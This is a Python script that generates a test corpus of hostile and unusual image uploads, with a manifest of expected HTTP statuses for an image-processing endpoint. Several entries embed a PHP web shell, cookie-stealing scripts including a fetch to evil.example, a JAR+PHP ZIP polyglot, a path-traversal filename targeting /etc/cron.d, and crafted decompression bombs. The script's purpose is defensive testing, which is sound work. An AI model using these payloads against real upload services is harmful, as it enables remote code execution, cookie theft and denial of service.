"""Build the hostile-input corpus next to this script, and ``manifest.json`` describing it.

    python tests/corpus/make_corpus.py          write every file and the manifest
    python tests/corpus/make_corpus.py --check  rebuild in memory and report files that differ from the ones on disk

Every file is made from code, byte for byte the same on every run with the same Pillow, libjpeg, zlib, libwebp,
x265 and libavif. Nothing here is random and nothing carries a timestamp: ZIP entries get a fixed date and the ICC
profiles are written by hand (Pillow's ``ImageCms.createProfile`` stamps the current time into its header).

The manifest says, for each file, what it is, how it is declared when uploaded, the status the upload must get and,
for accepted files, what the stored raw JPEG must look like (size, colours at probe points, bytes it must not
contain). ``tests/test_hostile_input.py`` drives the app with it. Big bodies (over the size limit) are not here:
the tests generate them.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pillow_heif
from PIL import Image, PngImagePlugin

HERE = Path(__file__).resolve().parent
MANIFEST = HERE / "manifest.json"

RED = (220, 30, 30)
WHITE = (255, 255, 255)
# The upright test picture: 96×64, white, with a red 24×24 square in its top-left corner. Wherever an EXIF
# orientation says the camera was held, the stored raw must show exactly this.
UPRIGHT_W, UPRIGHT_H, MARK = 96, 64, 24
UPRIGHT_PROBES = [
    {"xy": [12, 12], "rgb": list(RED), "tol": 40},
    {"xy": [84, 12], "rgb": list(WHITE), "tol": 20},
    {"xy": [12, 52], "rgb": list(WHITE), "tol": 20},
    {"xy": [84, 52], "rgb": list(WHITE), "tol": 20},
]
PHP = b"<?php system($_GET['cmd']); ?>"
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


@dataclass
class Entry:
    file: str
    what: str
    status: int
    data: bytes
    content_type: str = "image/jpeg"
    filename: str | None = None
    stored: dict[str, Any] | None = None
    bomb: bool = False
    pillow_warns: str | None = None
    note: str | None = None
    extra: dict[str, Any] = field(default_factory=dict)

    def manifest(self) -> dict[str, Any]:
        out: dict[str, Any] = {
            "file": self.file,
            "what": self.what,
            "content_type": self.content_type,
            "status": self.status,
            "bytes": len(self.data),
            "sha256": hashlib.sha256(self.data).hexdigest(),
        }
        if self.filename is not None:
            out["filename"] = self.filename
        if self.stored is not None:
            out["stored"] = self.stored
        if self.bomb:
            out["bomb"] = True
        if self.pillow_warns:
            out["pillow_warns"] = self.pillow_warns
        if self.note:
            out["note"] = self.note
        return out | self.extra


# ---- encoders ----------------------------------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **params: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **params)
    return out.getvalue()


def upright() -> Image.Image:
    image = Image.new("RGB", (UPRIGHT_W, UPRIGHT_H), WHITE)
    image.paste(RED, (0, 0, MARK, MARK))
    return image


def halves(mode: str, left: Any, right: Any, size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new(mode, size, right)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    return image


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_from_rows(width: int, height: int, bit_depth: int, colour_type: int, rows: Iterator[bytes],
                  before_idat: bytes = b"") -> bytes:
    """A PNG written by hand, for what Pillow cannot write (16-bit RGB, colour keys, bombs). Filter 0 on every row."""
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(b"\x00" + row) for row in rows) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + before_idat + png_chunk(b"IDAT", idat)
            + png_chunk(b"IEND", b""))


def chunk_span(png: bytes, kind: bytes) -> tuple[int, int]:
    """Where the first chunk of this kind keeps its data, and the data's length (its CRC follows the data)."""
    at = png.index(kind)
    return at + 4, struct.unpack(">I", png[at - 4:at])[0]


def zip_payload() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in (("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Payload\n"),
                           ("shell.php", PHP)):
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), body)
    return out.getvalue()


def s15f16(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def icc_profile(description: str, colorants_d50: np.ndarray) -> bytes:
    """A minimal ICC v2 RGB display profile: three colorants (columns, D50-adapted) and the sRGB tone curve."""

    def xyz(values: np.ndarray) -> bytes:
        return b"XYZ \x00\x00\x00\x00" + b"".join(s15f16(float(v)) for v in values)

    text = description.encode("ascii") + b"\x00"
    desc = b"desc\x00\x00\x00\x00" + struct.pack(">I", len(text)) + text + bytes(4 + 4 + 2 + 1 + 67)
    # Parametric curve type 3, the sRGB transfer function: (a·x + b)^g above d, c·x below.
    trc = b"para\x00\x00\x00\x00" + struct.pack(">HH", 3, 0) + b"".join(
        s15f16(v) for v in (2.4, 1 / 1.055, 0.055 / 1.055, 1 / 12.92, 0.04045))
    tags = [
        (b"desc", desc), (b"cprt", b"text\x00\x00\x00\x00" + b"No copyright, test data\x00"),
        (b"wtpt", xyz(np.array([0.9642, 1.0, 0.8249]))),
        (b"rXYZ", xyz(colorants_d50[:, 0])), (b"gXYZ", xyz(colorants_d50[:, 1])), (b"bXYZ", xyz(colorants_d50[:, 2])),
        (b"rTRC", trc), (b"gTRC", trc), (b"bTRC", trc),
    ]
    table_end = 128 + 4 + 12 * len(tags)
    table, blob = b"", b""
    for signature, data in tags:
        data += bytes(-len(data) % 4)
        table += signature + struct.pack(">II", table_end + len(blob), len(data))
        blob += data
    size = table_end + len(blob)
    header = (struct.pack(">I", size) + b"none" + struct.pack(">I", 0x02100000) + b"mntrRGB XYZ "
              + struct.pack(">6H", 2020, 1, 1, 0, 0, 0) + b"acsp" + bytes(4 + 4 + 4 + 4 + 8 + 4)
              + s15f16(0.9642) + s15f16(1.0) + s15f16(0.8249) + bytes(4 + 16 + 28))
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + blob


# Linear RGB → XYZ (D65) for both spaces, and Bradford D65 → D50 for the profiles' PCS.
P3_TO_XYZ = np.array([[0.4865709, 0.2656677, 0.1982173], [0.2289746, 0.6917385, 0.0792869],
                      [0.0, 0.0451134, 1.0439444]])
SRGB_TO_XYZ = np.array([[0.4124564, 0.3575761, 0.1804375], [0.2126729, 0.7151522, 0.0721750],
                        [0.0193339, 0.1191920, 0.9503041]])
BRADFORD_D65_TO_D50 = np.array([[1.0478112, 0.0228866, -0.0501270], [0.0295424, 0.9904844, -0.0170491],
                                [-0.0092345, 0.0150436, 0.7521316]])


def srgb_decode(values: np.ndarray) -> np.ndarray:
    return np.where(values <= 0.04045, values / 12.92, ((values + 0.055) / 1.055) ** 2.4)


def srgb_encode(values: np.ndarray) -> np.ndarray:
    values = np.clip(values, 0, 1)
    return np.where(values <= 0.0031308, values * 12.92, 1.055 * values ** (1 / 2.4) - 0.055)


def p3_to_srgb(rgb: tuple[int, int, int]) -> list[int]:
    """What a colour-managed viewer shows for a Display P3 pixel, as sRGB: the expectation, computed apart from
    the code under test (straight matrices, no littleCMS)."""
    linear = np.linalg.inv(SRGB_TO_XYZ) @ P3_TO_XYZ @ srgb_decode(np.array(rgb) / 255)
    return [round(float(v) * 255) for v in srgb_encode(linear)]


def exif_bytes(**tags: Any) -> bytes:
    exif = Image.Exif()
    for tag, value in tags.items():
        exif[int(tag.removeprefix("t"), 16)] = value
    return exif.tobytes()


def oriented(orientation: int) -> np.ndarray:
    """The upright picture as a camera stores it for an EXIF orientation, from the spec's definitions of where
    row 0 and column 0 of the stored pixels belong (not from Pillow's transpose table)."""
    up = np.asarray(upright())
    return {
        2: lambda a: a[:, ::-1],            # row 0 top, column 0 right: mirrored
        3: lambda a: a[::-1, ::-1],         # row 0 bottom, column 0 right: upside down
        4: lambda a: a[::-1, :],            # row 0 bottom, column 0 left: flipped
        5: lambda a: a.transpose(1, 0, 2),  # row 0 left, column 0 top: transposed
        6: lambda a: np.rot90(a, 1),        # row 0 right, column 0 top: shown after turning 90° clockwise
        7: lambda a: np.rot90(a, 1)[:, ::-1],  # row 0 right, column 0 bottom: transverse
        8: lambda a: np.rot90(a, -1),       # row 0 left, column 0 bottom: shown after turning 90° anticlockwise
    }[orientation](up).copy()


def stored(width: int, height: int, probes: list[dict[str, Any]], absent: list[str] | None = None) -> dict[str, Any]:
    return {"width": width, "height": height, "probes": probes, "absent": absent or []}


def probe(x: int, y: int, rgb: tuple[int, ...] | list[int], tol: int = 12) -> dict[str, Any]:
    return {"xy": [x, y], "rgb": list(rgb), "tol": tol}


HALVES_RED_WHITE = [probe(16, 24, RED, 40), probe(48, 24, WHITE, 12)]
HALVES_WHITE_RED = [probe(16, 24, WHITE, 12), probe(48, 24, RED, 40)]


# ---- the corpus --------------------------------------------------------------------------------------------------


def not_images() -> Iterator[Entry]:
    yield Entry("empty.jpg", "an empty file", 422, b"")
    yield Entry("text.jpg", "plain text declared as image/jpeg", 415, b"hello, I am text pretending to be a JPEG\n")
    yield Entry("page.html.jpg", "an HTML page with a script, declared as image/jpeg", 415,
                b"<!DOCTYPE html>" + HTML)
    yield Entry("script.js.png", "JavaScript declared as image/png", 415,
                b"fetch('https://evil.example/steal?c=' + document.cookie);\n", content_type="image/png")
    yield Entry("drawing.svg", "an SVG with an onload script, declared as image/svg+xml", 415,
                b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="alert(1)">'
                b'<rect width="64" height="48" fill="red"/></svg>', content_type="image/svg+xml")
    yield Entry("document.pdf.jpg", "a PDF header declared as image/jpeg", 415,
                b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    yield Entry("archive.zip.png", "a ZIP archive declared as image/png", 415, zip_payload(), content_type="image/png")


def damaged() -> Iterator[Entry]:
    noise = np.random.default_rng(7).integers(0, 256, (64, 96, 3), dtype=np.uint8)
    jpeg = encode(Image.fromarray(noise), "JPEG", quality=90)
    yield Entry("truncated.jpg", "a JPEG cut off in the middle of its scan data", 422, jpeg[: len(jpeg) * 6 // 10])
    png = encode(Image.fromarray(noise), "PNG")
    start, length = chunk_span(png, b"IDAT")
    yield Entry("truncated.png", "a PNG cut off in the middle of its IDAT chunk", 422, png[: start + length // 2],
                content_type="image/png")
    webp = encode(Image.fromarray(noise), "WEBP", quality=80)
    yield Entry("truncated.webp", "a WebP cut off in the middle of its bitstream", 422, webp[: len(webp) // 2],
                content_type="image/webp")

    clean = encode(halves("RGB", RED, WHITE), "PNG")
    bad_header = bytearray(clean)
    bad_header[29] ^= 0xFF  # the IHDR chunk's CRC
    yield Entry("png_bad_ihdr_crc.png", "a PNG whose IHDR chunk has a wrong CRC", 422, bytes(bad_header),
                content_type="image/png",
                note="damaged, not foreign: Pillow's PNG plugin refuses it at open, which _open reports as 415")
    start, length = chunk_span(clean, b"IDAT")
    broken = bytearray(clean[start: start + length])
    broken[6:14] = b"\xde\xad\xbe\xef" * 2
    yield Entry("png_broken_idat.png", "a PNG whose IDAT zlib stream is corrupt (its CRC recomputed to match)", 422,
                clean[: start - 8] + png_chunk(b"IDAT", bytes(broken)) + clean[start + length + 4:],
                content_type="image/png")
    bad_crc = bytearray(clean)
    bad_crc[start + length] ^= 0xFF
    yield Entry("png_bad_idat_crc.png", "a PNG whose IDAT CRC is wrong but whose pixel data is intact", 202,
                bytes(bad_crc), content_type="image/png", stored=stored(64, 48, HALVES_RED_WHITE),
                note="Pillow does not check IDAT CRCs; the pixels decode intact and are re-encoded, so accepting "
                     "it is safe")
    yield Entry("png_chunk_length_absurd.png", "a PNG with a tEXt chunk claiming 2 GB of data", 422,
                clean[:33] + struct.pack(">I", 0x7FFFFFF0) + b"tEXtComment\x00x" + clean[33:],
                content_type="image/png")
    ztxt = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"\x00" * (10 * 1024 * 1024), 9))
    yield Entry("png_ztxt_bomb.png", "a PNG whose zTXt comment inflates to 10 MB", 422,
                clean[:33] + ztxt + clean[33:], content_type="image/png")


def bombs() -> Iterator[Entry]:
    side = 30000
    row = bytes(side // 8)
    yield Entry("bomb_png_30000.png", "a complete 1-bit 30000×30000 PNG (900 Mpx) in ~110 kB of zlib", 422,
                png_from_rows(side, side, 1, 0, (row for _ in range(side))), content_type="image/png", bomb=True)
    yield Entry("bomb_png_header_100000.png", "a PNG header declaring 100000×100000 with one tiny IDAT", 422,
                png_from_rows(100000, 100000, 8, 2, iter([bytes(30)])), content_type="image/png", bomb=True)
    # A single-colour lossless WebP costs zero bits a pixel, so its bitstream is the same at any size: patching
    # the VP8L header's 14-bit width and height makes a valid 16383×16383 (268 Mpx) picture in 38 bytes.
    webp = bytearray(encode(Image.new("RGB", (64, 48), RED), "WEBP", lossless=True, method=0, quality=0))
    assert webp[12:16] == b"VP8L" and webp[20] == 0x2F
    bits = int.from_bytes(webp[21:25], "little") & ~((1 << 28) - 1)
    webp[21:25] = (bits | (16383 - 1) | ((16383 - 1) << 14)).to_bytes(4, "little")
    yield Entry("bomb_webp_16383.webp", "a valid 38-byte lossless WebP of 16383×16383 (268 Mpx)", 422, bytes(webp),
                content_type="image/webp", bomb=True)
    jpeg = bytearray(encode(Image.new("RGB", (64, 48), RED), "JPEG"))
    sof = jpeg.index(b"\xff\xc0")
    jpeg[sof + 5: sof + 9] = struct.pack(">HH", 60000, 60000)
    yield Entry("bomb_jpeg_60000.jpg", "a JPEG whose frame header declares 60000×60000", 422, bytes(jpeg), bomb=True)
    heic = bytearray(heic_bytes(Image.new("RGB", (64, 48), RED)))
    ispe = heic.index(b"ispe")
    heic[ispe + 8: ispe + 16] = struct.pack(">II", 65536, 65536)
    yield Entry("bomb_heic_ispe_65536.heic",
                "a HEIC whose ispe box declares 65536×65536 while its clean aperture still says 64×48", 422,
                bytes(heic), content_type="image/heic", bomb=True,
                note="Pillow reports the 64×48 aperture, so the pixel cap passes; libheif then refuses to decode "
                     "with RuntimeError('Security limit exceeded'), which _open does not catch")


def out_of_bounds() -> Iterator[Entry]:
    for width, height, what in ((1, 20000, "a 1×20000 strip"), (20000, 1, "a 20000×1 strip"),
                                (10, 10, "a 10×10 icon"), (31, 40, "31 pixels wide, one under the minimum side"),
                                (321, 32, "321×32, just past 10:1")):
        yield Entry(f"dims_{width}x{height}.png", what, 422,
                    encode(Image.new("RGB", (width, height), RED), "PNG"), content_type="image/png")
    yield Entry("dims_32x32.png", "32×32, exactly the minimum side", 202,
                encode(Image.new("RGB", (32, 32), RED), "PNG"), content_type="image/png",
                stored=stored(32, 32, [probe(16, 16, RED, 40)]))
    yield Entry("dims_320x32.png", "320×32, exactly 10:1", 202,
                encode(Image.new("RGB", (320, 32), RED), "PNG"), content_type="image/png",
                stored=stored(320, 32, [probe(160, 16, RED, 40)]))
    yield Entry("dims_5000x500.png", "5000×500: wider than the 4096-pixel raw cap, so scaled down", 202,
                encode(halves("RGB", RED, WHITE, (5000, 500)), "PNG"), content_type="image/png",
                stored=stored(4096, 410, [probe(1000, 205, RED, 40), probe(3000, 205, WHITE, 12)]))


def foreign_formats() -> Iterator[Entry]:
    still = halves("RGB", RED, WHITE)
    frames = [Image.new("RGB", (64, 48), colour) for colour in (RED, (30, 30, 220), (30, 200, 30))]
    animation = {"save_all": True, "append_images": frames[1:], "duration": 100, "loop": 0}
    yield Entry("still.gif", "a still GIF", 415, encode(still, "GIF"), content_type="image/gif")
    yield Entry("animated.gif", "an animated GIF (3 frames)", 415, encode(frames[0], "GIF", **animation),
                content_type="image/gif")
    yield Entry("gifar.gif", "a GIFAR: a GIF with a JAR (ZIP) appended", 415, encode(still, "GIF") + zip_payload(),
                content_type="image/gif")
    yield Entry("animated.webp", "an animated WebP (3 frames)", 415, encode(frames[0], "WEBP", **animation),
                content_type="image/webp")
    yield Entry("animated.png", "an animated PNG (APNG, 3 frames)", 415, encode(frames[0], "PNG", **animation),
                content_type="image/png")
    yield Entry("still.bmp", "a BMP", 415, encode(still, "BMP"), content_type="image/bmp")
    yield Entry("still.tiff", "a TIFF", 415, encode(still, "TIFF"), content_type="image/tiff")
    yield Entry("still.avif", "an AVIF still", 415, encode(still, "AVIF", quality=80, max_threads=1),
                content_type="image/avif")


def polyglots() -> Iterator[Entry]:
    jpeg = encode(halves("RGB", RED, WHITE), "JPEG", quality=95)
    gone = ["PK\x03\x04", "META-INF", "<?php", "<script"]
    yield Entry("polyglot_jpeg_zip.jpg", "a valid JPEG with a ZIP (JAR + PHP) appended after EOI", 202,
                jpeg + zip_payload(), stored=stored(64, 48, HALVES_RED_WHITE, gone))
    yield Entry("polyglot_jpeg_php_html.jpg", "a valid JPEG with PHP and an HTML script appended after EOI", 202,
                jpeg + PHP + HTML, stored=stored(64, 48, HALVES_RED_WHITE, gone))
    yield Entry("polyglot_jpeg_comment_php.jpg", "a valid JPEG carrying PHP and HTML in its COM marker", 202,
                encode(halves("RGB", RED, WHITE), "JPEG", quality=95, comment=PHP + HTML),
                stored=stored(64, 48, HALVES_RED_WHITE, gone),
                note="Pillow's JPEG encoder copies the source's COM comment from image.info into the re-encode")
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", (PHP + HTML).decode())
    info.add_itxt("Description", (PHP + HTML).decode(), zip=True)
    yield Entry("polyglot_png_text_php.png", "a valid PNG carrying PHP and HTML in tEXt and iTXt chunks", 202,
                encode(halves("RGB", RED, WHITE), "PNG", pnginfo=info), content_type="image/png",
                stored=stored(64, 48, HALVES_RED_WHITE, gone))


def colour() -> Iterator[Entry]:
    yield Entry("cmyk.jpg", "a CMYK JPEG (Adobe), left half red, right half white", 202,
                encode(halves("CMYK", (0, 255, 255, 0), (0, 0, 0, 0)), "JPEG", quality=95),
                stored=stored(64, 48, [probe(16, 24, (255, 0, 0), 40), probe(48, 24, WHITE, 12)]))
    mid, dark = 0x8000, 200
    yield Entry("png16_grey_mid.png", "a 16-bit greyscale PNG, all 32768 (mid grey)", 202,
                png_from_rows(64, 48, 16, 0, (struct.pack(">H", mid) * 64 for _ in range(48))),
                content_type="image/png", stored=stored(64, 48, [probe(32, 24, (128, 128, 128), 2)]))
    yield Entry("png16_grey_dark.png", "a 16-bit greyscale PNG, all 200 of 65535 (0.3 %: black)", 202,
                png_from_rows(64, 48, 16, 0, (struct.pack(">H", dark) * 64 for _ in range(48))),
                content_type="image/png", stored=stored(64, 48, [probe(32, 24, (1, 1, 1), 2)]),
                note="_flatten_to_rgb only scales 16-bit to 8-bit when some value exceeds 255, so a dark 16-bit "
                     "image is read as 8-bit and comes out light grey")
    yield Entry("png16_grey_gradient.png", "a 16-bit greyscale PNG: top half 16384, bottom half 65535", 202,
                png_from_rows(64, 48, 16, 0, (struct.pack(">H", 0x4000 if y < 24 else 0xFFFF) * 64
                                              for y in range(48))),
                content_type="image/png", stored=stored(64, 48, [probe(32, 10, (64, 64, 64), 2),
                                                                 probe(32, 40, WHITE, 2)]))
    yield Entry("png48_rgb_mid.png", "a 16-bit-per-channel RGB PNG, all mid grey", 202,
                png_from_rows(64, 48, 16, 2, (struct.pack(">HHH", mid, mid, mid) * 64 for _ in range(48))),
                content_type="image/png", stored=stored(64, 48, [probe(32, 24, (128, 128, 128), 2)]))
    palette = halves("P", 1, 0)
    palette.putpalette(list(RED) + [30, 30, 220] + [0] * 762)
    yield Entry("palette_transparent.png", "a palette PNG: left half a transparent blue entry, right half red", 202,
                encode(palette, "PNG", transparency=1), content_type="image/png",
                stored=stored(64, 48, HALVES_WHITE_RED))
    rgba = halves("RGBA", (30, 30, 220, 0), (*RED, 255))
    rgba.paste((0, 0, 0, 128), (0, 0, 8, 8))
    yield Entry("rgba_transparent.png", "an RGBA PNG: left half fully transparent blue, a half-transparent black "
                "corner, right half opaque red", 202, encode(rgba, "PNG"), content_type="image/png",
                stored=stored(64, 48, [*HALVES_WHITE_RED, probe(4, 4, (127, 127, 127), 6)]))
    yield Entry("grey_alpha.png", "a greyscale+alpha PNG: left half transparent black, right half opaque black",
                202, encode(halves("LA", (0, 0), (0, 255)), "PNG"), content_type="image/png",
                stored=stored(64, 48, [probe(16, 24, WHITE, 6), probe(48, 24, (0, 0, 0), 6)]))
    yield Entry("rgb_colour_key.png", "an RGB PNG whose tRNS colour key makes its black left half transparent",
                202, png_from_rows(64, 48, 8, 2, ((b"\x00\x00\x00" * 32 + bytes(RED) * 32) for _ in range(48)),
                                   before_idat=png_chunk(b"tRNS", struct.pack(">HHH", 0, 0, 0))),
                content_type="image/png", stored=stored(64, 48, HALVES_WHITE_RED),
                note="_flatten_to_rgb converts RGB straight to RGB, ignoring a tRNS colour key")
    yield Entry("grey.jpg", "a greyscale JPEG", 202, encode(halves("L", 40, 200), "JPEG", quality=95),
                stored=stored(64, 48, [probe(16, 24, (40, 40, 40), 4), probe(48, 24, (200, 200, 200), 4)]))
    yield Entry("grey.png", "a greyscale PNG", 202, encode(halves("L", 40, 200), "PNG"), content_type="image/png",
                stored=stored(64, 48, [probe(16, 24, (40, 40, 40), 2), probe(48, 24, (200, 200, 200), 2)]))
    yield Entry("bilevel.png", "a 1-bit PNG", 202, encode(halves("1", 0, 1), "PNG"), content_type="image/png",
                stored=stored(64, 48, [probe(16, 24, (0, 0, 0), 4), probe(48, 24, WHITE, 4)]))
    p3_colour = (200, 100, 50)
    p3 = icc_profile("Display P3 (test)", BRADFORD_D65_TO_D50 @ P3_TO_XYZ)
    yield Entry("display_p3.jpg", f"a Display P3 JPEG (embedded profile), every pixel P3 {p3_colour}", 202,
                encode(Image.new("RGB", (64, 48), p3_colour), "JPEG", quality=98, icc_profile=p3),
                stored=stored(64, 48, [probe(32, 24, p3_to_srgb(p3_colour), 4)]),
                extra={"unconverted_rgb": list(p3_colour)})


def orientation() -> Iterator[Entry]:
    for value in range(2, 9):
        yield Entry(f"exif_orientation_{value}.jpg", f"a JPEG stored turned for EXIF orientation {value}", 202,
                    encode(Image.fromarray(oriented(value)), "JPEG", quality=95, exif=exif_bytes(t0112=value)),
                    stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("exif_orientation_6.png", "a PNG (eXIf chunk) stored turned for EXIF orientation 6", 202,
                encode(Image.fromarray(oriented(6)), "PNG", exif=exif_bytes(t0112=6)), content_type="image/png",
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("exif_orientation_8.webp", "a WebP stored turned for EXIF orientation 8", 202,
                encode(Image.fromarray(oriented(8)), "WEBP", quality=95, exif=exif_bytes(t0112=8)),
                content_type="image/webp", stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("exif_orientation_9.jpg", "a JPEG with an invalid EXIF orientation (9): kept as stored", 202,
                encode(upright(), "JPEG", quality=95, exif=exif_bytes(t0112=9)),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    # Orientation 6 in IFD0, whose next-IFD pointer points back at itself.
    looped = (b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + struct.pack("<H", 1)
              + struct.pack("<HHIHH", 0x0112, 3, 1, 6, 0) + struct.pack("<I", 8))
    yield Entry("exif_ifd_loop.jpg", "orientation 6 in an EXIF whose IFD chain loops onto itself", 202,
                with_app1(encode(Image.fromarray(oriented(6)), "JPEG", quality=95), looped),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("exif_corrupt.jpg", "a JPEG whose EXIF block is a bare TIFF header with nothing behind it", 202,
                with_app1(encode(upright(), "JPEG", quality=95), b"Exif\x00\x00II*\x00\x08\x00\x00\x00"),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES), pillow_warns="Corrupt EXIF data")


def with_app1(jpeg: bytes, payload: bytes) -> bytes:
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def metadata() -> Iterator[Entry]:
    exif = Image.Exif()
    exif[0x010F] = "SecretPhoneMaker"
    exif[0x0132] = "2024:05:01 12:00:00"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (51.0, 30.0, 12.5), 3: "W", 4: (0.0, 7.0, 39.0), 18: "WGS-84-SECRET-HOME"})
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,30.2N" '
           b'exif:GPSLongitude="0,7.65W"/></rdf:RDF></x:xmpmeta>')
    srgb = icc_profile("sRGB (test)", BRADFORD_D65_TO_D50 @ SRGB_TO_XYZ)
    yield Entry("gps_xmp_icc.jpg", "a JPEG with EXIF (camera make, GPS position), an XMP packet with GPS and an "
                "sRGB ICC profile", 202,
                encode(upright(), "JPEG", quality=95, exif=exif.tobytes(), xmp=xmp, icc_profile=srgb),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES,
                              ["Exif\x00\x00", "SecretPhoneMaker", "WGS-84-SECRET-HOME", "http://ns.adobe.com/xap/1.0/",
                               "GPSLatitude", "ICC_PROFILE"]))
    depth = Image.new("RGB", (UPRIGHT_W, UPRIGHT_H), (30, 30, 220))
    yield Entry("mpo_two_pictures.jpg", "a JPEG with an MPF second picture (as phones write for HDR gain maps or "
                "depth): the first picture is the photo", 202,
                encode(upright(), "MPO", quality=95, save_all=True, append_images=[depth]),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES),
                note="Pillow opens it as format MPO with 2 frames: _open refuses MPO as a format (and would refuse "
                     "it again as animated)")


def heic_bytes(image: Image.Image) -> bytes:
    pillow_heif.register_heif_opener()
    return encode(image, "HEIF", quality=90)


def valid_odd() -> Iterator[Entry]:
    yield Entry("still.heic", "a HEIC still from pillow-heif", 202, heic_bytes(upright()), content_type="image/heic",
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("still.webp", "a lossy WebP still", 202, encode(upright(), "WEBP", quality=90),
                content_type="image/webp", stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("alpha.webp", "a lossless WebP with alpha: left half transparent", 202,
                encode(halves("RGBA", (30, 30, 220, 0), (*RED, 255)), "WEBP", lossless=True),
                content_type="image/webp", stored=stored(64, 48, HALVES_WHITE_RED))
    yield Entry("progressive.jpg", "a progressive JPEG", 202, encode(upright(), "JPEG", quality=95, progressive=True),
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("jpeg_declared_png.png", "a JPEG declared as image/png (content decides)", 202,
                encode(upright(), "JPEG", quality=95), content_type="image/png",
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("png_declared_octet_stream.bin", "a PNG declared as application/octet-stream", 202,
                encode(upright(), "PNG"), content_type="application/octet-stream",
                stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))
    yield Entry("traversal_name.jpg", "a JPEG uploaded as ../../../../etc/cron.d/x.php, declared text/plain", 202,
                encode(upright(), "JPEG", quality=95), content_type="text/plain",
                filename="../../../../etc/cron.d/x.php", stored=stored(UPRIGHT_W, UPRIGHT_H, UPRIGHT_PROBES))


BUILDERS: list[Callable[[], Iterator[Entry]]] = [
    not_images, damaged, bombs, out_of_bounds, foreign_formats, polyglots, colour, orientation, metadata, valid_odd,
]


def build() -> list[Entry]:
    entries = [entry for builder in BUILDERS for entry in builder()]
    names = [entry.file for entry in entries]
    assert len(names) == len(set(names)), "file names must be unique"
    return entries


def manifest_text(entries: list[Entry]) -> str:
    body = {
        "about": "Hostile and odd uploads for POST /process. Regenerate with `python tests/corpus/make_corpus.py`. "
                 "status: what the upload must get. stored (accepted files): the raw JPEG's size, colours at probe "
                 "points (xy, rgb, per-channel tolerance) and strings it must not contain. bomb: refused without "
                 "decoding. pillow_warns: Pillow warns while reading it (the test allows that warning). note: why "
                 "the entry is there when it is not obvious.",
        "entries": [entry.manifest() for entry in entries],
    }
    return to_json(body) + "\n"


def to_json(value: Any, level: int = 0) -> str:
    """Indented JSON, with probes and lists of numbers or strings kept on one line so the manifest reads as a table."""
    flat = isinstance(value, list) and all(not isinstance(item, dict | list) for item in value)
    if not isinstance(value, dict | list) or flat or (isinstance(value, dict) and "xy" in value):
        return json.dumps(value, ensure_ascii=False)
    pad, inner = "  " * level, "  " * (level + 1)
    if isinstance(value, list):
        return "[\n" + ",\n".join(inner + to_json(item, level + 1) for item in value) + f"\n{pad}]" if value else "[]"
    items = (f"{inner}{json.dumps(key)}: {to_json(item, level + 1)}" for key, item in value.items())
    return "{\n" + ",\n".join(items) + f"\n{pad}}}"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true", help="compare with the files on disk; write nothing")
    args = parser.parse_args()
    entries = build()
    wanted = {entry.file: entry.data for entry in entries} | {MANIFEST.name: manifest_text(entries).encode()}
    if args.check:
        differ = [name for name, data in wanted.items()
                  if not (HERE / name).is_file() or (HERE / name).read_bytes() != data]
        print("\n".join(differ) or "the corpus on disk matches")
        return 1 if differ else 0
    keep = {*wanted, Path(__file__).name}
    for stale in HERE.iterdir():
        if stale.is_file() and stale.name not in keep:
            stale.unlink()
    for name, data in wanted.items():
        (HERE / name).write_bytes(data)
    total = sum(len(data) for data in wanted.values())
    print(f"wrote {len(entries)} files and {MANIFEST.name} ({total:,} bytes) to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
